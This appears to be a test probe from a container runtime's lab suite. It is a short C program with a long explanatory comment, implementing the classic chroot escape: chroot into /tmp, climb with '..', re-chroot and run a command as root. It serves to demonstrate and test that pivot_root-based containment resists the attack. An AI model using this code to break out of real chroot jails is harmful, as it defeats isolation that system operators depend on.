/*
 * lab_chroot_escape - the classic way out of a chroot, for the README's
 * lab "chroot is escapable, pivot_root is not".
 *
 *     lab_chroot_escape COMMAND [ARG...]
 *
 * chroot(2) changes where "/" resolves for this process and nothing else:
 * the working directory stays where it was.  The kernel stops ".." at the
 * process's root only when the walk passes through that root.  So: chroot
 * into a subdirectory without entering it, and the working directory is
 * left outside the new root, where ".." is never stopped.  Climb until "."
 * and ".." are the same directory (the top of the mount namespace), make
 * that the root with chroot("."), and run COMMAND there.
 *
 * Run in a chroot on the host, the top is the host's real "/".  Run in
 * contained, which pivoted into its rootfs and detached the old root, the
 * top is the container's own "/": there is nothing above it to climb to.
 *
 * Needs CAP_SYS_CHROOT (root in a chroot, or contained's root, which keeps
 * it).  Build it static, since a rootfs may have no C library:
 *     cc -static -o escape tests/probes/lab_chroot_escape.c
 *
 * Part of contained.  SPDX-License-Identifier: GPL-3.0-or-later
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void __attribute__((noreturn)) fail(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	_exit(1);
}

/* True when "." and ".." are one directory: the top of the tree. */
static int at_top(void)
{
	struct stat here, up;
	if (stat(".", &here) < 0)
		fail("stat .");
	if (stat("..", &up) < 0)
		fail("stat ..");
	return here.st_dev == up.st_dev && here.st_ino == up.st_ino;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: escape COMMAND [ARG...]\n");
		return 2;
	}
	/* Start from the current root, then jail ourselves one level below
	 * it, in /tmp (every rootfs has one), without going there. */
	if (chdir("/") < 0)
		fail("chdir /");
	if (chroot("/tmp") < 0)
		fail("chroot /tmp");

	int climbed = 0;
	while (!at_top()) {
		if (chdir("..") < 0)
			fail("chdir ..");
		climbed++;
	}
	if (chroot(".") < 0)
		fail("chroot .");
	fprintf(stderr, "escape: chroot(\"/tmp\"), climbed %d level%s with chdir(\"..\"), "
		"chroot(\".\"); running %s\n", climbed, climbed == 1 ? "" : "s", argv[1]);
	fflush(stderr);
	execv(argv[1], argv + 1);
	fail(argv[1]);
}
